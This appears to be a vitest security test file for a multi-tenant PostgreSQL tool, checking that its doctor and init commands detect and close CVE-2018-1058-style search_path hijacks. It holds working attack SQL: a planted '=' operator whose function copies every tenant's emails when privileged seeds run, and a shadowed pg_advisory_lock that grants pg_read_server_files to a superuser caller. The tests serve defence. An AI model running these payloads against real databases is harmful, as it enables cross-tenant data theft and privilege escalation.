/**
 * Paths from the application role to every tenant through what privileged roles run unqualified
 * (security trial, fourth round; CVE-2018-1058). The seeds run as the owner under SET LOCAL ROLE to the
 * RLS bypass role with the owner's search_path ("$user", public, or what ALTER DATABASE / ALTER ROLE
 * set), and their `IS DISTINCT FROM` compares character varying columns: an `=` operator on
 * (character varying, character varying) fits exactly and wins over pg_catalog's texteq wherever it is
 * searched. Each path is walked as the application role first (it reads the other tenant's users), then
 * `doctor tenant.isolation` must fail naming it and its fix, and `init` must refuse it or revoke what
 * it or PUBLIC holds:
 *
 * - CREATE on `public` through PUBLIC (a cluster upgraded from PostgreSQL 14 keeps it), and the operator
 *   planted there, which outlives the REVOKE;
 * - CREATE on the database: a schema named after the bypass role is its "$user";
 * - CREATE on a schema that ALTER DATABASE ... SET search_path names;
 * - default privileges giving CREATE on the owner's next schemas;
 * - a maintenance database owned by the application role, whose search_path the admin's init used;
 * - pg_monitor (pg_read_all_stats): other roles' statement texts, a warning.
 */
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, runCliJson } from './helpers/cli.js';
import { adminQuery, query, uniqueName } from './helpers/server.js';
import { bypassRoleName } from '../src/tenant/roles.js';
import { doctorTenant, dropSetup, initWithTwoTenants, newSetup, rolesOf, runStatements } from './helpers/tenant-setup.js';

/**
 * As the application role: a table `<schema>.esc_loot` every role may fill, and an `=` operator on
 * character varying in `schema` whose function copies every user it can see there.
 */
function plantOperator(schema: string): string[] {
  return [
    `CREATE TABLE ${schema}.esc_loot (email text)`,
    `GRANT INSERT ON ${schema}.esc_loot TO PUBLIC`,
    `CREATE FUNCTION ${schema}.esc_eq(a character varying, b character varying) RETURNS boolean LANGUAGE plpgsql AS $f$
       BEGIN
         INSERT INTO ${schema}.esc_loot SELECT u.email FROM public.users u;
         RETURN a::text = b::text;
       END $f$`,
    `CREATE OPERATOR ${schema}.= (LEFTARG = character varying, RIGHTARG = character varying, FUNCTION = ${schema}.esc_eq)`,
  ];
}

describe('paths through what privileged roles resolve unqualified', () => {
  const s = newSetup('tsp');
  const bypass = bypassRoleName(s.owner);
  beforeAll(async () => {
    await initWithTwoTenants(s);
  }, 300_000);
  afterAll(async () => {
    await dropSetup({ db: s.db, roles: rolesOf(s) });
  });

  /** The seeds again, as the owner (cmmc-db seed --force: each file under SET LOCAL ROLE to the bypass role). */
  async function reseed() {
    const r = await runCli(['seed', '--force', '02'], { url: s.ownerUrl });
    expect(r.exitCode, r.stderr).toBe(0);
  }

  /** What the application role's table holds after the seeds ran: the e-mails of every tenant. */
  async function loot(schema: string): Promise<string[]> {
    const rows = await runStatements(s.appUrl, [`SELECT DISTINCT email FROM ${schema}.esc_loot ORDER BY 1`]);
    return rows.map((r) => r.email);
  }

  async function expectDoctorFails(problem: string, fix: string) {
    const r = await doctorTenant(s.appUrl);
    expect(r.check.status, JSON.stringify(r.check.rows)).toBe('fail');
    const row = r.check.rows.find((x: any) => x.problem.includes(problem));
    expect(row, JSON.stringify(r.check.rows)).toBeDefined();
    expect(row.object).toBe(s.app);
    expect(row.fix).toContain(fix);
  }

  async function expectInitRefuses(problem: string, fix: string) {
    const init = await runCli(['init'], { env: s.env });
    expect(init.exitCode, init.stderr).toBe(1);
    expect(init.stderr).toContain(`the application role "${s.app}" ${problem}`);
    expect(init.stderr).toContain(fix);
    expect(init.stderr).not.toMatch(/\n\s+at /);
  }

  it('CREATE on public through PUBLIC: an operator there runs in the seeds as the bypass role; doctor fails on both, init revokes the one and refuses the other', async () => {
    // What a cluster upgraded from PostgreSQL 14 keeps.
    await query(s.adminUrl, 'GRANT CREATE ON SCHEMA public TO PUBLIC');
    try {
      await runStatements(s.appUrl, plantOperator('public'));
      expect(await loot('public')).toEqual([]);
      await reseed();
      expect(await loot('public')).toEqual(['alice@a.example', 'bob@b.example']);

      await expectDoctorFails('has CREATE on schema public (through PUBLIC)', 'REVOKE CREATE ON SCHEMA "public" FROM PUBLIC');
      await expectDoctorFails('owns operator public.= (character varying, character varying) in schema public', 'DROP OPERATOR public.= (character varying, character varying)');
      // REVOKE does not take back what was made: init revokes CREATE, then refuses on the operator
      // (before the seeds, which would run it again).
      await query(s.adminUrl, 'TRUNCATE public.esc_loot');
      const init = await runCli(['init', '--json'], { env: s.env });
      expect(init.exitCode, init.stderr).toBe(1);
      expect(init.stderr).toContain(`the application role "${s.app}" owns operator public.= (character varying, character varying)`);
      expect(init.stderr).toContain('DROP OPERATOR public.= (character varying, character varying)');
      expect(await loot('public')).toEqual([]);
      const [acl] = await query<{ create: boolean }>(s.adminUrl, `SELECT has_schema_privilege('${s.app}', 'public', 'CREATE') AS create`);
      expect(acl.create).toBe(false);
    } finally {
      await query(s.adminUrl, 'REVOKE CREATE ON SCHEMA public FROM PUBLIC; DROP OPERATOR IF EXISTS public.= (character varying, character varying); DROP FUNCTION IF EXISTS public.esc_eq(character varying, character varying); DROP TABLE IF EXISTS public.esc_loot');
    }
    expect((await doctorTenant(s.appUrl)).check.status).toBe('ok');
  });

  it('CREATE on the database: a schema named after the bypass role is the seeds\' "$user", searched before public', async () => {
    await query(s.adminUrl, `GRANT CREATE ON DATABASE "${s.db}" TO "${s.app}"`);
    try {
      await expectDoctorFails(`has CREATE on the database ${s.db}`, `REVOKE CREATE ON DATABASE "${s.db}" FROM "${s.app}"`);
      await runStatements(s.appUrl, [`CREATE SCHEMA "${bypass}"`, `GRANT USAGE ON SCHEMA "${bypass}" TO PUBLIC`, ...plantOperator(`"${bypass}"`)]);
      await reseed();
      expect(await loot(`"${bypass}"`)).toEqual(['alice@a.example', 'bob@b.example']);
      await runStatements(s.appUrl, [`DROP SCHEMA "${bypass}" CASCADE`]);
      // Through PUBLIC too; init revokes both.
      await query(s.adminUrl, `GRANT CREATE ON DATABASE "${s.db}" TO PUBLIC`);
      await expectDoctorFails(`has CREATE on the database ${s.db} (through PUBLIC)`, `REVOKE CREATE ON DATABASE "${s.db}" FROM PUBLIC`);
      const init = await runCliJson(['init'], { env: s.env });
      expect(init.exitCode, init.stderr).toBe(0);
      const detail = init.data.steps.find((x: any) => x.step === 'privileges').detail;
      expect(detail).toContain(`revoked CREATE on database ${s.db} from ${s.app}`);
      expect(detail).toContain(`revoked CREATE on database ${s.db} from PUBLIC`);
    } finally {
      await query(s.adminUrl, `DROP SCHEMA IF EXISTS "${bypass}" CASCADE; REVOKE CREATE ON DATABASE "${s.db}" FROM "${s.app}", PUBLIC`);
    }
    expect((await doctorTenant(s.appUrl)).check.status).toBe('ok');
  });

  it('CREATE on a schema that ALTER DATABASE or ALTER ROLE ... IN DATABASE ... SET search_path names', async () => {
    await query(s.adminUrl, `CREATE SCHEMA esc_ops; GRANT USAGE, CREATE ON SCHEMA esc_ops TO "${s.app}"; GRANT USAGE ON SCHEMA esc_ops TO PUBLIC;
                             ALTER DATABASE "${s.db}" SET search_path = esc_ops, public`);
    try {
      await runStatements(s.appUrl, plantOperator('esc_ops'));
      await reseed();
      expect(await loot('esc_ops')).toEqual(['alice@a.example', 'bob@b.example']);
      await runStatements(s.appUrl, ['DROP OPERATOR esc_ops.= (character varying, character varying)']);
      await expectDoctorFails(`has CREATE on schema esc_ops, which ALTER DATABASE ${s.db} SET search_path names`, `REVOKE CREATE ON SCHEMA "esc_ops" FROM "${s.app}"`);
      await expectInitRefuses('has CREATE on schema "esc_ops"', `REVOKE CREATE ON SCHEMA "esc_ops" FROM "${s.app}"`);
      // The owner's own setting in this database, quoted and in another case, counts the same.
      await query(s.adminUrl, `ALTER DATABASE "${s.db}" RESET search_path; ALTER ROLE "${s.owner}" IN DATABASE "${s.db}" SET search_path = "$user", "esc_ops", PUBLIC`);
      await expectDoctorFails(`has CREATE on schema esc_ops, which ALTER ROLE ${s.owner} IN DATABASE ${s.db} SET search_path names`, `REVOKE CREATE ON SCHEMA "esc_ops" FROM "${s.app}"`);
    } finally {
      await query(s.adminUrl, `ALTER DATABASE "${s.db}" RESET search_path; ALTER ROLE "${s.owner}" IN DATABASE "${s.db}" RESET search_path; DROP SCHEMA IF EXISTS esc_ops CASCADE`);
    }
    expect((await doctorTenant(s.appUrl)).check.status).toBe('ok');
  });

  it('default privileges giving CREATE on the owner\'s next schemas: doctor fails, init revokes them', async () => {
    await query(s.adminUrl, `ALTER DEFAULT PRIVILEGES FOR ROLE "${s.owner}" GRANT CREATE ON SCHEMAS TO "${s.app}"`);
    try {
      // A later revision's schema is one the application role creates in (init gave the owner CREATE on the database).
      await runStatements(s.ownerUrl, ['CREATE SCHEMA esc_later']);
      await runStatements(s.appUrl, ['CREATE FUNCTION esc_later.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$']);
      await runStatements(s.ownerUrl, ['DROP SCHEMA esc_later CASCADE']);
      await expectDoctorFails(`gets CREATE on every new schema of ${s.owner}`, `ALTER DEFAULT PRIVILEGES FOR ROLE "${s.owner}" REVOKE CREATE ON SCHEMAS FROM "${s.app}"`);
      const init = await runCliJson(['init'], { env: s.env });
      expect(init.exitCode, init.stderr).toBe(0);
      expect(init.data.steps.find((x: any) => x.step === 'privileges').detail).toContain(`revoked default privileges CREATE on new schemas from ${s.app}`);
    } finally {
      await query(s.adminUrl, `DROP SCHEMA IF EXISTS esc_later CASCADE; ALTER DEFAULT PRIVILEGES FOR ROLE "${s.owner}" REVOKE CREATE ON SCHEMAS FROM "${s.app}"`);
    }
    expect((await doctorTenant(s.appUrl)).check.status).toBe('ok');
  });

  it('a maintenance database owned by the application role: its search_path does not reach the admin\'s init', async () => {
    const maint = uniqueName('tsp_maint');
    await adminQuery(`CREATE DATABASE "${maint}" OWNER "${s.app}"`);
    try {
      const appMaint = s.appUrl.replace(`/${s.db}`, `/${maint}`);
      await runStatements(appMaint, [
        'CREATE SCHEMA esc_evil',
        'GRANT USAGE ON SCHEMA esc_evil TO PUBLIC',
        `CREATE FUNCTION esc_evil.pg_advisory_lock(a int, b int) RETURNS void LANGUAGE plpgsql AS $f$
           BEGIN
             IF current_setting('is_superuser') = 'on' THEN EXECUTE 'GRANT pg_read_server_files TO "${s.app}"'; END IF;
             PERFORM pg_catalog.pg_advisory_lock(a, b);
           END $f$`,
        `ALTER DATABASE "${maint}" SET search_path = esc_evil, pg_catalog, public`,
      ]);
      // The path is real: a superuser's session there runs the application role's function.
      await runStatements(`postgres://postgres@127.0.0.1:5432/${maint}`, ['SELECT pg_advisory_lock(1, 2)']);
      const member = async () => (await query<{ m: boolean }>(s.adminUrl, `SELECT pg_has_role('${s.app}', 'pg_read_server_files', 'MEMBER') AS m`))[0].m;
      expect(await member()).toBe(true);
      await adminQuery(`REVOKE pg_read_server_files FROM "${s.app}"`);

      const init = await runCli(['init', '--admin-url', `postgres://postgres@127.0.0.1:5432/${maint}`], { env: s.env });
      expect(init.exitCode, init.stderr).toBe(0);
      expect(await member()).toBe(false);
    } finally {
      await adminQuery(`REVOKE pg_read_server_files FROM "${s.app}"`);
      await adminQuery(`DROP DATABASE IF EXISTS "${maint}" WITH (FORCE)`);
    }
  });

  it('pg_monitor: other roles\' statement texts (pg_read_all_stats) are a warning, not a path', async () => {
    const owner = postgres(s.ownerUrl, { max: 1, onnotice: () => {} });
    try {
      const [{ pid }] = await owner.unsafe(`SELECT pg_backend_pid() AS pid, 'bob@b.example' AS literal`);
      const seen = async () => (await runStatements(s.appUrl, [`SELECT query FROM pg_stat_activity WHERE pid = ${pid}`]))[0].query;
      expect(await seen()).toBe('<insufficient privilege>');
      await adminQuery(`GRANT pg_monitor TO "${s.app}"`);
      // The path is real as far as it goes: the owner's last statement, with its literal.
      expect(await seen()).toContain('bob@b.example');
      const r = await doctorTenant(s.appUrl);
      expect(r.check.status, JSON.stringify(r.check.rows)).toBe('warn');
      const row = r.check.rows.find((x: any) => x.problem.includes('is a member of pg_read_all_stats (through pg_monitor)'));
      expect(row?.fix, JSON.stringify(r.check.rows)).toContain(`REVOKE "pg_monitor" FROM "${s.app}"`);
      expect(r.check.rows.some((x: any) => x.problem.includes('is a member of pg_read_all_settings (through pg_monitor)'))).toBe(true);
      const init = await runCli(['init'], { env: s.env });
      expect(init.exitCode, init.stderr).toBe(0);
    } finally {
      await owner.end({ timeout: 5 });
      await adminQuery(`REVOKE pg_monitor FROM "${s.app}"`);
    }
    expect((await doctorTenant(s.appUrl)).check.status).toBe('ok');
  });
});
